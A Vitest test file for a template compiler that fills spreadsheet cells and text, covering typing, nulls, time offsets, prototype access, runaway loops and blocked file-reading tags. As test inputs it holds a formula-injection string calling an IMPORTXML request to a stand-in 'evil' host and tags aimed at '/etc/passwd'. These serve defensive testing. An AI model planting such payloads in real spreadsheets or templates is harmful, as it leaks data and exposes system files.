import { describe, expect, test } from 'vitest';
import { compileTemplate } from '../../../src/mirrors/render/template.ts';

const text = (source: string, context: Record<string, unknown> = {}) => compileTemplate(source).text(context);
const cell = (source: string, context: Record<string, unknown> = {}) => compileTemplate(source).cell(context);

describe('a cell', () => {
  test.each([
    ['{{ price }}', { price: 12.5 }, 12.5],
    ['{{ price }}\n', { price: 0 }, 0],
    ['{{ price | times: 2 }}', { price: 3 }, 6],
    ['{{ deleted }}', { deleted: false }, false],
    ['{{ name }}', { name: 'Ann' }, 'Ann'],
    ['{{ phone }}', { phone: '+4915112345678' }, '+4915112345678'],
    ['{{ name }}', { name: '=IMPORTXML("http://evil")' }, '=IMPORTXML("http://evil")'],
    ['{{ name }}', { name: null }, null],
    ['{{ name }}', {}, null],
    ['{{ name }}', { name: '' }, null],
    ['{{ count }} guests', { count: 2 }, '2 guests'],
    ['{{ a }}{{ b }}', { a: 1, b: 2 }, '12'],
    ['{{ a }} ', { a: null }, null],
    ['{{ names }}', { names: ['Anna', 'Room 1'] }, 'Anna, Room 1'],
    ['{{ metadata }}', { metadata: { a: 1 } }, '{"a":1}'],
    ['{{ n | divided_by: 0 }}', { n: 1 }, null],
  ])('from %j is typed as what it shows', (source, context, expected) => {
    expect(cell(source, context)).toBe(expected);
  });
});

describe('a text', () => {
  test('shows null and absent values as nothing', () => {
    expect(text('[{{ a }}][{{ b }}][{{ c.d.e }}]', { a: null })).toBe('[][][]');
  });

  test('shows times with the offset they carry, not with that of the machine', () => {
    const context = { starts_at: '2026-07-01T10:00:00+02:00' };
    expect(text("{{ starts_at | date: '%Y-%m-%d %H:%M' }}", context)).toBe('2026-07-01 10:00');
  });

  test('is the same twice', () => {
    const template = compileTemplate('{% increment n %}{{ a }}');
    expect(template.text({ a: 1 })).toBe(template.text({ a: 1 }));
  });

  test('cannot reach behind its context', () => {
    expect(text('{{ constructor }}{{ a.constructor.name }}{{ __proto__ }}', { a: {} })).toBe('');
  });
});

describe('a template that runs away', () => {
  test('is stopped, and the failure quotes nobody', () => {
    const source =
      '{% for i in (1..100000) %}{% for j in (1..100000) %}{{ name | append: name }}{% endfor %}{% endfor %}';
    const failure = (() => {
      try {
        return text(source, { name: 'Nina Weber' });
      } catch (error) {
        return error;
      }
    })();
    expect(failure).toMatchObject({ family: 'terminal', code: 'template-failed' });
    expect(JSON.stringify(failure) + String(failure)).not.toContain('Nina');
  });

  test.each(["{% include 'secret' %}", "{% render '/etc/passwd' %}", "{% layout 'x' %}", '{{ a | sample }}'])(
    'cannot be one that reads files or rolls dice: %s',
    (source) => expect(() => compileTemplate(source)).toThrow('cannot be rendered'),
  );
});

test('a text cut by a template has no half character, which Google would refuse', () => {
  expect(text('{{ name | split: "" | first }}.', { name: '😀 Ada' })).toBe('\ufffd.');
});
